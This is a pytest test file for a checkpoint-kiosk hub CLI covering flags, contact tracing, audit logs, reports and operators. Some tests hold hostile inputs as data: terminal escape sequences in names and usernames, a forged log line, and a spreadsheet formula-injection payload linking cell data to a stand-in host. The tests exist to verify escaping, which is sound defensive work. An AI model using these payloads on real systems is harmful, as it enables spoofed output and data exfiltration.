"""`hub` CLI against a real SQLite hub database: flags, fleet, traces (audited), reports, repairs."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import logging
import stat
from pathlib import Path

import pytest
import sqlalchemy as sa
from click.testing import CliRunner

from common.clitools import EscapingFilter, escape_text, json_text
from hub.cli import main
from hub.db import Database, open_database
from hub.flags import import_registry_changes
from hub.fleet import record_status
from hub.ingest import store_events, store_events_detailed
from hub.operators import AuthError, login
from hub.queries import csv_cell
from hub.schema import audit_log, events, migrate
from provisioning.inventory import KioskRecord, KioskRegistry
from testkit.hub_events import T0, make_event

PERSON = "001234567890"
CONTACT = "079090000001"


@pytest.fixture
def hub_config(tmp_path: Path) -> Path:
    path = tmp_path / "hub.toml"
    path.write_text(
        f'database_url = "sqlite:///{tmp_path / "hub.db"}"\n'
        f'signing_key = "{tmp_path / "keys" / "hub-signing.pem"}"\n'
        f'flag_key_file = "{tmp_path / "keys" / "id-hash.key"}"\n'
        "stale_after_s = 300\n"
    )
    return path


def run(config: Path, *args: str, ok: bool = True) -> str:
    result = CliRunner().invoke(main, ["--config", str(config), *args], catch_exceptions=False)
    if ok:
        assert result.exit_code == 0, result.output
    else:
        assert result.exit_code != 0, result.output
    return result.output


def db_of(config: Path) -> Database:
    db = open_database(f"sqlite:///{config.parent / 'hub.db'}")
    migrate(db, T0)
    return db


def seed(config: Path) -> None:
    """Two people at cp-1 ten minutes apart, one of them again at cp-2 the next day; a DENY in between."""
    db = db_of(config)
    events = [
        make_event(1, checkpoint="cp-1", at=T0, id_number=PERSON),
        make_event(2, checkpoint="cp-1", at=T0 + dt.timedelta(minutes=10), id_number=CONTACT),
        make_event(3, checkpoint="cp-1", at=T0 + dt.timedelta(minutes=50), id_number="001111111111"),
        make_event(4, checkpoint="cp-1", at=T0 + dt.timedelta(minutes=55), verdict="DENY", id_number=None),
    ]
    events += [
        make_event(1, kiosk="kiosk-2", checkpoint="cp-2", at=T0 + dt.timedelta(days=1), id_number=PERSON)
    ]
    store_events(db, events, now=T0 + dt.timedelta(days=1, minutes=1))
    db.dispose()


def test_init_creates_private_keys_once_and_migrates(hub_config: Path) -> None:
    out = run(hub_config, "init")
    key = hub_config.parent / "keys" / "hub-signing.pem"
    assert "created" in out
    assert stat.S_IMODE(key.stat().st_mode) == 0o600
    assert stat.S_IMODE((hub_config.parent / "keys" / "id-hash.key").stat().st_mode) == 0o600
    assert (
        (hub_config.parent / "keys" / "hub-signing.pub.pem").read_text().startswith("-----BEGIN PUBLIC KEY")
    )
    before = key.read_bytes()
    assert "kept" in run(hub_config, "init")
    assert key.read_bytes() == before


def test_flags_add_list_lift_and_bad_input(hub_config: Path) -> None:
    assert "version 1" in run(hub_config, "flags", "add", PERSON, "--status", "F0", "--note", "lab 12")
    rows = json.loads(run(hub_config, "flags", "list", "--json"))
    assert [(r["target"], r["status"], r["active"]) for r in rows] == [(PERSON, "F0", True)]
    assert "version 2" in run(hub_config, "flags", "lift", PERSON)
    assert json.loads(run(hub_config, "flags", "list", "--json")) == []
    assert json.loads(run(hub_config, "flags", "list", "--all", "--json"))[0]["lifted"] is True
    assert "12-digit" in run(hub_config, "flags", "add", "12345", "--status", "F0", ok=False)
    assert "no flag to lift" in run(hub_config, "flags", "lift", PERSON, ok=False)
    assert "Invalid value" in run(hub_config, "flags", "add", PERSON, "--status", "F9", ok=False)
    audit = json.loads(run(hub_config, "audit", "--action", "flag", "--json"))
    assert [a["action"] for a in audit] == ["flag.lift", "flag.add"]
    assert all(a["actor"].startswith("cli:") for a in audit)


def test_flags_add_refuses_bad_targets_and_dead_letters_raise_an_alarm(hub_config: Path) -> None:
    full_width = "\uff10" * 12
    assert "12-digit" in run(hub_config, "flags", "add", full_width, "--status", "F0", ok=False)
    assert "hex" in run(hub_config, "flags", "add", "zz", "--kind", "pass", "--status", "revoked", ok=False)
    assert "12-digit" in run(hub_config, "flags", "lift", full_width, ok=False)
    db = db_of(hub_config)
    bad = {"version": 1, "target_kind": "pass", "target": "zz", "status": "revoked"}
    import_registry_changes(db, 1, [bad], now=T0)
    db.dispose()
    rows = json.loads(run(hub_config, "flags", "dead-letters", "--json"))
    assert [(r["source"], r["version"]) for r in rows] == [("registry", 1)] and "hex" in rows[0]["reason"]
    assert "WARNING: 1 flag change(s) could not be sent" in run(hub_config, "kiosks")
    assert "WARNING: 1 flag change(s)" in run(hub_config, "flags", "list")


def test_trace_person_and_contacts_are_audited(hub_config: Path) -> None:
    seed(hub_config)
    window = ["--from", "2026-11-20", "--to", "2026-11-22"]
    person = json.loads(run(hub_config, "trace", "person", PERSON, *window, "--json"))
    assert [p["checkpoint_id"] for p in person] == ["cp-1", "cp-2"]
    assert person[0]["scanned_at"].endswith("+07:00")  # shown in the hub's zone
    contacts = json.loads(run(hub_config, "trace", "contacts", PERSON, "--window", "30m", *window, "--json"))
    assert [(c["subject_id"], c["gap_s"]) for c in contacts] == [(CONTACT, 600)]
    wider = json.loads(run(hub_config, "trace", "contacts", PERSON, "--window", "1h", *window, "--json"))
    assert {c["subject_id"] for c in wider} == {CONTACT, "001111111111"}
    audit = json.loads(run(hub_config, "audit", "--action", "trace", "--json"))
    assert [a["action"] for a in audit] == ["trace.contacts", "trace.contacts", "trace.person"]
    assert audit[-1]["detail"]["id"] == PERSON
    assert "--window" in run(hub_config, "trace", "contacts", PERSON, "--window", "soon", ok=False)


ESCAPE_NAME = "\x1b[K\x1b[ANGUYEN\u202eVAN\x9b2J A"  # erase line, cursor up, RTL override, C1 CSI
RAW_CONTROLS = ("\x1b", "\u202e", "\x9b")


def test_cli_output_escapes_what_came_from_outside(hub_config: Path) -> None:
    """Issue 12 item 4: a recorded name `\\x1b[K\\x1b[A...` erased the real contact's row in a terminal,
    and a failed login with an escape-sequence username erased later rows of `hub audit`."""
    seed(hub_config)
    db = db_of(hub_config)
    hostile = make_event(5, checkpoint="cp-1", at=T0 + dt.timedelta(minutes=5), id_number="079090000002")
    refused = make_event(6, checkpoint="cp-1", at=T0 + dt.timedelta(minutes=5), id_number="079090000003")
    refused["subject"]["name"] = ESCAPE_NAME
    result = store_events_detailed(db, [refused], now=T0 + dt.timedelta(minutes=6))
    assert [event_id for event_id, _ in result.rejected] == [refused["event_id"]]  # the wire refuses it now
    store_events(db, [hostile], now=T0 + dt.timedelta(minutes=6))
    with db.begin() as conn:  # a row stored before the wire's bounds existed: output must still be safe
        conn.execute(
            sa.update(events).where(events.c.event_id == hostile["event_id"]).values(subject_name=ESCAPE_NAME)
        )
    record_status(db, "kiosk-1", {"state": "online", "version": "\x1b]0;owned\x07", "backlog": 0}, now=T0)
    with pytest.raises(AuthError):
        login(db, "\x1b[2J\x1b[Hadmin", "a wrong password", now=T0)
    with db.begin() as conn:
        actor = conn.execute(
            sa.select(audit_log.c.actor).where(audit_log.c.action == "login.refused")
        ).scalar()
    assert actor == "\\x1b[2J\\x1b[Hadmin"  # stored escaped, not raw
    db.dispose()
    window = ["--from", "2026-11-20", "--to", "2026-11-22"]
    outputs = {
        "contacts": run(hub_config, "trace", "contacts", PERSON, *window),
        "contacts-json": run(hub_config, "trace", "contacts", PERSON, *window, "--json"),
        "kiosks": run(hub_config, "kiosks"),
        "kiosks-json": run(hub_config, "kiosks", "--json"),
        "audit": run(hub_config, "audit"),
    }
    for what, out in outputs.items():
        assert not any(c in out for c in RAW_CONTROLS), what
    assert "\\x1b[K\\x1b[ANGUYEN\\u202eVAN\\x9b2J A" in outputs["contacts"]
    assert "\\x1b]0;owned\\x07" in outputs["kiosks"]
    # JSON stays JSON, and reads back as exactly what was stored
    names = {c["subject_name"] for c in json.loads(outputs["contacts-json"])}
    assert ESCAPE_NAME in names
    assert {k["software"] for k in json.loads(outputs["kiosks-json"])} >= {"\x1b]0;owned\x07"}


def test_log_lines_escape_outside_text() -> None:
    stream = io.StringIO()
    handler = logging.StreamHandler(stream)
    handler.addFilter(EscapingFilter())
    logger = logging.getLogger("tests.escaping")
    logger.addHandler(handler)
    logger.propagate = False
    try:
        logger.warning("kiosk %s said %s", "kiosk-1", "ok\n2026-11-20 ERROR forged line\x1b[2K")
    finally:
        logger.removeHandler(handler)
    assert stream.getvalue() == "kiosk kiosk-1 said ok\\n2026-11-20 ERROR forged line\\x1b[2K\n"


def test_daily_report_csv_counts_by_checkpoint_verdict_and_local_hour(hub_config: Path) -> None:
    seed(hub_config)
    out = run(hub_config, "report", "daily", "--date", "2026-11-20", "--format", "csv")
    rows = list(csv.DictReader(io.StringIO(out)))
    got = {(r["checkpoint_id"], r["dimension"], r["key"]): int(r["count"]) for r in rows}
    assert got[("cp-1", "verdict", "PASS")] == 3
    assert got[("cp-1", "verdict", "DENY")] == 1
    assert got[("cp-1", "reason", "flag_f0")] == 1
    assert got[("cp-1", "hour", "15:PASS")] == 3  # 08:00 UTC is 15:00 in Vietnam
    assert not any(k[0] == "cp-2" for k in got)  # the next day
    text = run(hub_config, "report", "daily", "--date", "2026-11-20")
    assert "cp-1" in text and "2026-11-20" in text


def test_kiosks_shows_versions_and_marks_silent_kiosks_stale(hub_config: Path) -> None:
    seed(hub_config)
    db = db_of(hub_config)
    now = dt.datetime.now(dt.UTC)
    status = {
        "state": "online",
        "version": "0.1.0",
        "flags_version": 7,
        "backlog": 3,
        "clock": {"trusted": True},
    }
    record_status(db, "kiosk-1", status, now=now)
    record_status(db, "kiosk-2", {**status, "backlog": 0}, now=now - dt.timedelta(hours=1))
    db.dispose()
    rows = {r["kiosk_id"]: r for r in json.loads(run(hub_config, "kiosks", "--json"))}
    assert rows["kiosk-1"]["stale"] is False and rows["kiosk-1"]["backlog"] == 3
    assert rows["kiosk-1"]["flags_version"] == 7 and rows["kiosk-1"]["software"] == "0.1.0"
    assert rows["kiosk-2"]["stale"] is True
    assert "online STALE" in run(hub_config, "kiosks")


def test_daily_report_csv_cells_are_never_formulas(hub_config: Path) -> None:
    """Issue 12 item 5: a kiosk planted `=HYPERLINK(...)` in the daily CSV (the dashboard's download too)."""
    db = db_of(hub_config)
    planted = ['=HYPERLINK("http://x.example/?"&A1,"open")', "+1", "-1", "@SUM(A1)", "fine-code"]
    store_events(db, [make_event(1, verdict="DENY", reasons=planted)], now=T0)
    db.dispose()
    out = run(hub_config, "report", "daily", "--date", "2026-11-20", "--format", "csv")
    keys = [r["key"] for r in csv.DictReader(io.StringIO(out)) if r["dimension"] == "reason"]
    assert sorted(keys) == sorted(
        ['\'=HYPERLINK("http://x.example/?"&A1,"open")', "'+1", "'-1", "'@SUM(A1)", "fine-code"]
    )
    # Tab and carriage return no longer pass the wire's bounds; a cell that holds one is still text.
    assert (csv_cell("\tx"), csv_cell("\rx"), csv_cell(3)) == ("'\\tx", "'\\rx", 3)


def test_kiosks_assign_and_import_from_the_provisioning_registry(hub_config: Path, tmp_path: Path) -> None:
    registry = (
        KioskRegistry(tmp_path / "prov" / "provision.db") if (tmp_path / "prov").mkdir() is None else None
    )
    assert registry is not None
    for kiosk_id, checkpoint, status in (
        ("kiosk-1", "cp-1", "active"),
        ("kiosk-9", "cp-9", "decommissioned"),
    ):
        registry.enroll(KioskRecord(kiosk_id, checkpoint, "A", "", "self", "hub.vn", 8883, status=status))
    assert "1 kiosks assigned" in run(hub_config, "kiosks", "import", str(tmp_path / "prov"))
    assert "kiosk-2: cp-2 (zone HN-02)" in run(
        hub_config, "kiosks", "assign", "kiosk-2", "cp-2", "--zone", "HN-02"
    )
    assert "checkpoint id" in run(hub_config, "kiosks", "assign", "kiosk-2", "cp-2\n", ok=False)
    assert "no provisioning registry" in run(hub_config, "kiosks", "import", str(tmp_path), ok=False)
    seed(hub_config)  # kiosk-1's events claim cp-1 (right), kiosk-2's claim cp-2 (right)
    db = db_of(hub_config)
    store_events(db, [make_event(9, kiosk="kiosk-2", checkpoint="cp-7")], now=T0, from_kiosk="kiosk-2")
    db.dispose()
    rows = {r["kiosk_id"]: r for r in json.loads(run(hub_config, "kiosks", "--json"))}
    assert {k: (r["checkpoint_id"], r["assigned"], r["wrong_claims"]) for k, r in rows.items()} == {
        "kiosk-1": ("cp-1", True, 0),
        "kiosk-2": ("cp-2", True, 1),
    }
    assert [a["action"] for a in json.loads(run(hub_config, "audit", "--action", "kiosk", "--json"))] == [
        "kiosk.assign",
        "kiosk.import",
    ]


def test_passages_hide_names_and_mask_ids(hub_config: Path) -> None:
    seed(hub_config)
    rows = json.loads(run(hub_config, "passages", "--json"))
    assert len(rows) == 5
    assert all("NGUYEN" not in json.dumps(r) for r in rows)
    assert {r["subject"] for r in rows if r["subject"]} >= {"••••••••7890"}


def test_operators_and_rebase(hub_config: Path) -> None:
    run(hub_config, "operators", "set", "lan", "--role", "operator", "--password", "correct horse battery")
    assert "at least" in run(
        hub_config, "operators", "set", "an", "--role", "viewer", "--password", "short", ok=False
    )
    assert json.loads(run(hub_config, "operators", "list", "--json")) == [
        {"username": "lan", "role": "operator", "disabled": False}
    ]
    run(hub_config, "operators", "disable", "lan")
    assert "next expected seq 101" in run(hub_config, "rebase-seq", "kiosk-9", "100")


def test_missing_or_bad_config_is_a_clear_error(tmp_path: Path) -> None:
    assert "no such config file" in run(tmp_path / "nope.toml", "kiosks", ok=False)
    bad = tmp_path / "bad.toml"
    bad.write_text('database_url = "sqlite:///x.db"\nsigning_key = "k"\ncolour = "red"\n')
    assert "colour: unknown key" in run(bad, "kiosks", ok=False)


def test_the_example_hub_config_is_valid() -> None:
    from hub.config import load_hub_config
    from tests.conftest import REPO_ROOT

    config = load_hub_config(REPO_ROOT / "examples" / "hub.toml")
    assert config.mqtt.tls is not None and config.registry is not None
    assert config.mqtt.client_ids() == ["hub-ingest-1", "hub-flags"]


def test_escaped_output_keeps_vietnamese_and_json_reads_back_the_same() -> None:
    value = {"name": "Nguyễn Văn An", "x": "\x1b[2J\x9b\u202e\U000e0001\U0010fffd\n\t"}
    text = json_text(value)
    assert all(c.isprintable() or c == "\n" for c in text) and "Nguyễn Văn An" in text
    assert json.loads(text) == value
    assert escape_text(value["name"]) == "Nguyễn Văn An"
    assert escape_text(value["x"]) == "\\x1b[2J\\x9b\\u202e\\U000e0001\\U0010fffd\\n\\t"


def test_rejects_lists_refused_and_dead_lettered_events_for_operators(hub_config: Path) -> None:
    db = db_of(hub_config)
    poison = make_event(1)
    poison["subject"] = {"id_number": None, "name": "X", "dob": "1" * 60}
    store_events(db, [poison], now=T0, from_kiosk="kiosk-1", in_order=True)
    db.dispose()
    out = json.loads(run(hub_config, "rejects", "--json"))
    assert [(r["kiosk_id"], r["event_id"]) for r in out] == [("kiosk-1", poison["event_id"])]
    assert out[0]["reason"].startswith("subject") and "body" not in out[0]
    assert poison["event_id"] in run(hub_config, "rejects", "--kiosk", "kiosk-1")
    assert poison["event_id"] not in run(hub_config, "rejects", "--kiosk", "kiosk-2")
